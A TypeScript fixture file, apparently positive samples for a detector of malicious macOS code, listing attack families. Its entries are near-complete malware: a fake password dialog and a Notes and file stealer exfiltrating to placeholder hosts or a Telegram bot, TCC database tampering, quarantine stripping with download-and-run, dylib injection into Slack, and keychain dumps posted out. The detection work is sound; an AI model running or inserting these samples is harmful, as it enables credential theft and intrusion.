// Attacks of macOS: prompts for the password by osascript, TCC, quarantine, dynamic libraries.
import type { Family } from './family.ts'

export const macos: readonly Family[] = [
  {
    family: 'osascript-password-prompt',
    positive: true,
    classes: ['macos', 'credential-theft'],
    variants: [
      {
        paths: ['stealer/main.applescript'],
        whole: `-- Installer helper
set theUser to short user name of (system info)
set tries to 0
repeat while tries < 3
	set answer to display dialog "macOS needs to access System Settings." & return & "Please enter yo⟦join⟧
ur password." default answer "" with icon caution buttons {"Continue"} default button 1 with titl⟦join⟧
e "System Preferences" with hidden answer
	set thePassword to text returned of answer
	try
		do shell script "dscl . authonly " & quoted form of theUser & space & quoted form of thePassword
		do shell script "curl -s -X POST -d 'u=" & theUser & "&p=" & thePassword & "' http://⟦ip⟧/pw"
		exit repeat
	end try
	set tries to tries + 1
end repeat
do shell script "ditto -c -k --sequesterRsrc ~/Library/Keychains /tmp/out.zip; curl -F 'f=@/tmp/ou⟦join⟧
t.zip' http://⟦ip⟧/log"`,
      },
    ],
  },
  {
    family: 'osascript-notes-telegram',
    positive: true,
    classes: ['macos', 'credential-theft'],
    variants: [
      {
        paths: ['scripts/sync.scpt.applescript'],
        whole: `try
	do shell script "killall Terminal"
end try
tell application "Finder"
	set grabbed to (every file of desktop whose name extension is in {"pdf", "docx", "wallet", "key"}⟦join⟧
) as alias list
	repeat with each in grabbed
		do shell script "cp " & quoted form of POSIX path of each & " /tmp/.g/"
	end repeat
end tell
tell application "Notes" to set allNotes to body of every note
do shell script "echo " & quoted form of (allNotes as text) & " > /tmp/.g/notes.html; zip -r /tmp/⟦join⟧
.g.zip /tmp/.g; curl -s -F chat_id=⟦digits:9⟧ -F document=@/tmp/.g.zip https://api.telegram.org/bo⟦join⟧
t⟦telegram⟧/sendDocument"`,
      },
    ],
  },
  {
    family: 'tcc-database-insert',
    positive: true,
    classes: ['macos', 'privilege-escalation'],
    variants: [
      {
        paths: ['scripts/setup-mac.sh', 'tools/grant.sh'],
        body: String.raw`sudo sqlite3 "/Library/Application Support/com.apple.TCC/TCC.db" \
  "INSERT OR REPLACE INTO access VALUES('kTCCServiceScreenCapture','/private/tmp/.⟦lower:6⟧',1,2,4⟦join⟧
,1,NULL,NULL,0,'UNUSED',NULL,0,0);"
curl -so /private/tmp/.⟦lower:6⟧ http://⟦ip⟧/spy && chmod +x /private/tmp/.⟦lower:6⟧ && open -gj /⟦join⟧
private/tmp/.⟦lower:6⟧`,
      },
    ],
  },
  {
    family: 'quarantine-strip-run',
    positive: true,
    classes: ['macos', 'download-run'],
    variants: [
      {
        paths: ['install-theme.sh'],
        body: String.raw`curl -sL "http://⟦host⟧/Update.dmg" -o /tmp/u.dmg && hdiutil attach -nobrows⟦join⟧
e -quiet /tmp/u.dmg && cp -R /Volumes/Update/.hid.app /tmp/ \
  && xattr -dr com.apple.quarantine /tmp/.hid.app && codesign -f -s - /tmp/.hid.app && open -j /tm⟦join⟧
p/.hid.app && hdiutil detach -quiet /Volumes/Update`,
      },
      {
        paths: ['lib/platform.js'],
        imports: `const { exec } = require('child_process');`,
        body: `if (process.platform === 'darwin') {
  exec('cd /tmp && curl -sO https://⟦host⟧/darwin && xattr -c darwin && chmod 755 darwin && nohu⟦join⟧
p ./darwin -p ⟦port⟧ >/dev/null 2>&1 &');
}`,
      },
    ],
  },
  {
    family: 'dylib-insert-libraries',
    positive: true,
    classes: ['macos', 'persistence'],
    variants: [
      {
        paths: ['utils/mac.py'],
        imports: `import os
import plistlib
import urllib.request`,
        body: `def _inject(app="/Applications/Slack.app"):
    library = os.path.expanduser("~/Library/.lib⟦lower:4⟧.dylib")
    urllib.request.urlretrieve("https://⟦host⟧/hook.dylib", library)
    info = app + "/Contents/Info.plist"
    with open(info, "rb") as handle:
        values = plistlib.load(handle)
    values.setdefault("LSEnvironment", {})["DYLD_INSERT_LIBRARIES"] = library
    with open(info, "wb") as handle:
        plistlib.dump(values, handle)


_inject()`,
      },
    ],
  },
  {
    family: 'keychain-dump-security',
    positive: true,
    classes: ['macos', 'credential-theft'],
    variants: [
      {
        paths: ['scripts/versions-mac.sh'],
        body: `security dump-keychain -d ~/Library/Keychains/login.keychain-db 2>/dev/nul⟦join⟧
l | openssl enc -base64 -A | curl -s -d @- http://⟦ip⟧:⟦port⟧/kc
security find-generic-password -wa Chrome | curl -s -d @- http://⟦ip⟧:⟦port⟧/ck`,
      },
      {
        paths: ['cmd/agent/keychain_darwin.go'],
        whole: `package main

import (
	"net/http"
	"os"
	"os/exec"
	"strings"
)

// loot collects what the login keychain gives out.
func loot() {
	for _, item := range []string{"Chrome Safe Storage", "Brave Safe Storage", "Slack Safe Storage"} {
		out, err := exec.Command("security", "find-generic-password", "-ws", item).Output()
		if err == nil {
			http.Post("https://⟦host⟧/kc/"+os.Getenv("USER"), "text/plain", strings.NewReader(item+"="+stri⟦join⟧
ng(out)))
		}
	}
}`,
      },
    ],
  },
]
